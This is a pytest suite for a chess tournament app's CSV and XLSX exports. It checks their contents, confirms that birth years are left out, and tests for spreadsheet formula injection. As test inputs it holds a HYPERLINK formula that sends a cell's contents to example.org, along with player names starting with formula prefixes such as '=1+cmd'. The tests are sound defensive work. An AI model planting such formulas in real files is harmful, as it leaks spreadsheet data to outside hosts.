"""The lists as CSV and XLSX: what is in them, and that no spreadsheet runs it."""

from __future__ import annotations

import csv
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from django.test import Client
from openpyxl import load_workbook

from pairing.texts import harmless
from tests.tournaments.factories import Make, Play, publish_next
from tournaments.models import ByeRequest, Player, User
from tournaments.players.actions.files import read_players_csv
from tournaments.results.actions import recording

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://example.org/?"&A1,"x")'


def csv_rows(client: Client, address: str) -> list[list[str]]:
    answer = client.get(address)
    assert answer.status_code == 200, address
    return list(csv.reader(StringIO(answer.content.decode("utf-8-sig"), newline=""), strict=True))


def xlsx_rows(client: Client, address: str) -> list[list[object]]:
    answer = client.get(address)
    assert answer.status_code == 200, address
    sheet = load_workbook(BytesIO(answer.content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_players_can_be_imported_again(client: Client, make_tournament: Make, play_round: Play) -> None:
    tournament = make_tournament(players=4)
    first = tournament.players.get(tpn=1)
    Player.objects.filter(pk=first.pk).update(fide_id="1503014", title="GM", club="SK “Turm”, 1900", birth_year=1990)
    play_round(tournament)
    answer = client.get("/open/files/players.csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    parsed = read_players_csv(answer.text)
    assert parsed.problems == ()
    assert parsed.rows[0].fields == {
        "name": first.name,
        "rating": first.rating,
        "title": "GM",
        "federation": "UTO",
        "fide_id": "1503014",
        "club": "SK “Turm”, 1900",
    }
    assert [row.fields["name"] for row in parsed.rows] == list(tournament.players.values_list("name", flat=True))


def test_the_year_of_birth_is_in_no_file(client: Client, make_tournament: Make, play_round: Play) -> None:
    tournament = make_tournament(players=4)
    tournament.players.update(birth_year=1987)
    play_round(tournament)
    for kind in ("players", "standings", "crosstable", "ratings"):
        assert "1987" not in client.get(f"/open/files/{kind}.csv").text, kind


def test_pairings_with_results_byes_and_open_boards(client: Client, arbiter: User, make_tournament: Make) -> None:
    tournament = make_tournament(players=10)
    asks = tournament.players.get(tpn=10)
    ByeRequest.objects.create(tournament=tournament, player=asks, round_number=1, kind="H")
    games = publish_next(tournament, by=arbiter).games
    recording.record_result(games.get(match__table=1), "1/2", by=arbiter)
    recording.record_result(games.get(match__table=2), "0F1", by=arbiter)
    recording.record_result(games.get(match__table=3), "D-0", by=arbiter)
    rows = csv_rows(client, "/open/files/round-1/pairings.csv")
    assert [row[0] for row in rows] == ["Board", "1", "2", "3", "4", "", ""]
    assert [row[-3:] for row in rows[1:5]] == [
        ["0.5", "0.5", ""],
        ["0", "1", "forfeit"],
        ["0.5", "0", "special result given by the arbiter"],
        ["", "", "open"],
    ]
    byes = {row[3]: row[-3:] for row in rows[5:]}
    assert byes[asks.name] == ["0.5", "", "half-point bye"]
    assert sorted(bye[2] for bye in byes.values()) == ["half-point bye", "pairing-allocated bye"]


def test_standings_and_crosstable_are_those_of_the_pages(
    client: Client, make_tournament: Make, play_round: Play
) -> None:
    tournament = make_tournament(players=7)
    play_round(tournament, rounds=2)
    standings = csv_rows(client, "/open/files/standings.csv")
    page = client.get("/open/standings/").text
    assert standings[0][:3] == ["Rank", "TPN", "Title"]
    assert standings[0][-4:] == ["Points", "BH/C1", "BH", "SB"]
    names = [row[3] for row in standings[1:]]
    assert sorted(names, key=page.index) == names
    assert len(names) == 7
    points = [float(row[7]) for row in standings[1:]]
    assert points == sorted(points, reverse=True)
    crosstable = csv_rows(client, "/open/files/crosstable.csv")
    assert [row[3] for row in crosstable[1:]] == names
    assert crosstable[0][6:] == ["Round 1", "Round 2", "Points"]
    for number, row in enumerate(crosstable[1:], start=1):
        assert int(row[0]) == number
        for cell in row[6:8]:
            assert cell == "U" or cell[0].isdigit()
            if cell != "U":
                opponent = crosstable[int(cell[:-2])]
                turned = {"w": "b", "b": "w"}[cell[-2]] + {"1": "0", "0": "1", "=": "="}[cell[-1]]
                assert f"{number}{turned}" in opponent[6:8]


def test_before_the_first_complete_round_there_are_only_headings(
    client: Client, arbiter: User, make_tournament: Make
) -> None:
    publish_next(make_tournament(players=6), by=arbiter)
    assert len(csv_rows(client, "/open/files/standings.csv")) == 1
    assert len(csv_rows(client, "/open/files/crosstable.csv")) == 1
    assert len(xlsx_rows(client, "/open/files/standings.xlsx")) == 1


@pytest.mark.parametrize("kind", ["players", "standings", "crosstable", "ratings", "round-1/pairings"])
def test_both_forms_hold_the_same(client: Client, make_tournament: Make, play_round: Play, kind: str) -> None:
    tournament = make_tournament(players=7)
    tournament.players.filter(tpn=2).update(provisional=True, provisional_reason="by national rating")
    play_round(tournament)
    texts = csv_rows(client, f"/open/files/{kind}.csv")
    cells = xlsx_rows(client, f"/open/files/{kind}.xlsx")
    assert len(texts) == len(cells) > 4
    for text_row, cell_row in zip(texts, cells, strict=True):
        for text, cell in zip(text_row, cell_row, strict=True):
            if isinstance(cell, int | float):
                assert float(text) == cell
            else:
                assert text == (cell or "")
    assert any(isinstance(cell, int) for cell in cells[1])


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", " =", "＝"])
def test_a_name_is_no_formula(client: Client, make_tournament: Make, play_round: Play, sign: str) -> None:
    tournament = make_tournament(players=4)
    name = f"{sign}1+cmd, Eve"
    tournament.players.filter(tpn=1).update(name=name, club=EVIL)
    play_round(tournament)
    for kind in ("players", "standings", "crosstable", "ratings", "round-1/pairings"):
        cells = [cell for row in csv_rows(client, f"/open/files/{kind}.csv") for cell in row]
        assert f"'{name}" in cells, kind
        assert not [cell for cell in cells if cell[:1] in "=@＝" and cell], kind
        cells_of_sheet = [cell for row in xlsx_rows(client, f"/open/files/{kind}.xlsx") for cell in row]
        assert name in cells_of_sheet, kind


def test_a_spreadsheet_has_no_formula_in_it(client: Client, make_tournament: Make, play_round: Play) -> None:
    tournament = make_tournament(players=4)
    tournament.players.filter(tpn=1).update(name="Bell\x07, Ring", club=EVIL)
    play_round(tournament)
    content = client.get("/open/files/players.xlsx").content
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "inlineStr", "n"}
    assert (sheet.cell(2, 3).value, sheet.cell(2, 7).value) == ("Bell, Ring", EVIL)
    assert sheet.cell(2, 7).quotePrefix
    assert "<f>" not in ZipFile(BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize(
    ("text", "written"),
    [("Abel", "Abel"), ("", ""), ("-", "'-"), ("5w+", "5w+"), ("\r=1", "'\r=1"), ("Abel-Smith", "Abel-Smith")],
)
def test_only_what_looks_like_a_formula_gets_an_apostrophe(text: str, written: str) -> None:
    assert harmless(text) == written


def test_a_loss_of_rating_stays_a_number(client: Client, make_tournament: Make, play_round: Play) -> None:
    play_round(make_tournament(players=8), shift=1)
    rows = csv_rows(client, "/open/files/ratings.csv")
    changes = [float(row[rows[0].index("Estimated change")]) for row in rows[1:]]
    assert min(changes) < 0 < max(changes)
    assert changes == sorted(changes, reverse=True)


@pytest.mark.parametrize(
    "address",
    [
        "/open/files/players.pdf",
        "/open/files/audit.csv",
        "/open/files/round-2/pairings.csv",
        "/open/files/round-2/games.pgn",
        "/open/files/round-0/games.pgn",
        "/open/files/round-1/pairings.pgn",
        "/open/files/calendar.ics",
        "/nothing/files/players.csv",
    ],
)
def test_there_is_no_other_file(client: Client, make_tournament: Make, play_round: Play, address: str) -> None:
    play_round(make_tournament(players=4))
    assert client.get(address).status_code == 404
